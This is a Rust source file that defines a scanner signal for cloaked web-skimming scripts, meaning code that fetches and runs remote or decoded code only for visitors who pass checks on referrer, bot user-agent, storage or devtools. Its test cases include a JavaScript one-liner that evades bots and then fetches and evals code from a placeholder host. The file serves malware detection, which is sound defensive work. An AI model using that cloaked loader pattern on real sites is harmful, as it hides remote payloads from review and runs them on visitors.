//! `code-for-few-visitors`.

use crate::facts::Atom;
use crate::signals::{Evidence, Held, Signal, one, several};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "code-for-few-visitors",
    description: "The script runs code from elsewhere only for visitors who pass several checks, such as origin, browser or time.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[
        one(&[
            Atom::RemoteRun,
            Atom::AnswerRun,
            Atom::DecodedRun,
            Atom::ScriptFromHidden,
            Atom::ScriptFromAnswer,
            Atom::HiddenTag,
        ]),
        several(
            2,
            &[
                Atom::SignedIn,
                Atom::Referrer,
                Atom::Robot,
                Atom::BrowserCheck,
                Atom::Devtools,
                Atom::LocalTime,
                Atom::Cookie,
                Atom::Storage,
                Atom::PaymentPlace,
                Atom::PageClick,
            ],
        ),
    ],
    within: 200,
    only_if: Some(are_different),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "if(!document.referrer||localStorage.getItem('k')||/bot|Headless|crawler/i.test(navigator.userAgent))return;localStorage.setItem('k',1);fetch('https://c.example/a').then(r=>r.text()).then(t=>eval(t))",
        ],
        without: &[
            "var c=document.cookie,d=document.cookie,e=document.cookie;fetch('https://c.example/a').then(r=>r.text()).then(t=>eval(t))",
            "if(!document.referrer||localStorage.getItem('k')||/bot|Headless|crawler/i.test(navigator.userAgent))return;fetch('/a').then(show)",
        ],
    },
};

/// Whether the signs are of enough kinds. The kinds are where a visitor comes from, with which browser, how often, when, where
/// in the shop, and after a click. Another one is whether somebody debugs or is signed in. Two are enough for code that was
/// decoded or answered; a script's address that is only put together takes three.
fn are_different(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = held.last.saturating_sub(SIGNAL.within)..=held.last.saturating_add(AFTER);
    let place = evidence.facts.iter().filter(|fact| near.contains(&fact.at));
    let mut kinds = [false; 7];
    let (mut decoded, mut runs, mut loads) = (false, false, false);
    for fact in place {
        match fact.atom {
            Atom::Referrer => kinds[0] = true,
            Atom::Robot => kinds[1] = true,
            Atom::Cookie | Atom::Storage => kinds[2] = true,
            Atom::Devtools | Atom::SignedIn => kinds[3] = true,
            Atom::LocalTime => kinds[4] = true,
            Atom::PaymentPlace => kinds[5] = true,
            Atom::PageClick => kinds[6] = true,
            Atom::Decode | Atom::FromCodes => decoded = true,
            Atom::RemoteRun | Atom::AnswerRun | Atom::DecodedRun => runs = true,
            Atom::ScriptFromHidden | Atom::HiddenTag | Atom::ScriptFromAnswer => loads = true,
            _ => {}
        }
    }
    // Tags of advertisers look at the referrer and at cookies, too.
    let watched = kinds[1] || kinds[3..].contains(&true);
    let enough = if runs || loads && decoded && watched { 2 } else { 3 };
    kinds.iter().filter(|kind| **kind).count() >= enough
}

/// Items after the last sign in which others count.
const AFTER: u32 = 100;
